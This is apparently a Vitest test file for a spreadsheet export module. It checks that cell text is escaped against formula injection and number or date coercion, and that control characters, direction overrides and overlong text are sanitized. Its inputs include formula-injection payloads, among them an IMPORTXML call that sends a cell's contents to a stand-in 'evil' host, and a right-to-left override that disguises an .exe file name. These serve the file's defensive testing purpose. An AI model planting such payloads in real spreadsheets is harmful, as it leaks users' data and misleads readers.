import { describe, expect, it } from 'vitest';
import { escapeCellText, MAX_CELL_TEXT, needsTextPrefix, sanitizeForSheet } from '../../src/core/sheet/cell-text';

describe('escapeCellText', () => {
  it.each([
    '=HYPERLINK("http://evil","x")',
    '=IMPORTXML("http://evil/?"&A1,"//a")',
    '=1+1',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '−5',
    '0012',
    '12',
    '1.234,56',
    '12,50 €',
    '€12',
    '12 EUR',
    '50%',
    '1e5',
    '(12)',
    '2024-01-05',
    '05.01.2024',
    '1/2',
    '12:30',
    '3 Jan',
    'Jan 2024',
    'Mai 2024',
    'TRUE',
    'false',
    'WAHR',
    "'already quoted",
  ])('makes %j inert', (s) => {
    expect(needsTextPrefix(s)).toBe(true);
    expect(escapeCellText(s)).toBe(`'${s}`);
  });

  it.each(['', 'Max Mustermann', 'Miete Januar', 'DE89370400440532013000', 'RE 2024-001', 'Rechnung 4711', 'Müller GmbH & Co. KG', 'EUR'])(
    'leaves ordinary text %j alone',
    (s) => {
      expect(escapeCellText(s)).toBe(s);
    },
  );
});

describe('sanitizeForSheet', () => {
  it('keeps line breaks, drops other control characters and direction overrides', () => {
    expect(sanitizeForSheet('a\r\nb\rc\nd')).toBe('a\nb\nc\nd');
    expect(sanitizeForSheet('a\tb')).toBe('a b');
    expect(sanitizeForSheet('be\u0000l\u0007l\u001b[31m\u007f\u0085')).toBe('bell[31m');
    expect(sanitizeForSheet('Invoice \u202egpj.exe')).toBe('Invoice gpj.exe');
    expect(sanitizeForSheet('Grüße €')).toBe('Grüße €');
  });

  it('keeps a text within the size of one cell', () => {
    const long = sanitizeForSheet('x'.repeat(MAX_CELL_TEXT + 10));
    expect(long).toHaveLength(MAX_CELL_TEXT);
    expect(long.endsWith('…')).toBe(true);
    expect(sanitizeForSheet('x'.repeat(MAX_CELL_TEXT))).toHaveLength(MAX_CELL_TEXT);
  });
});
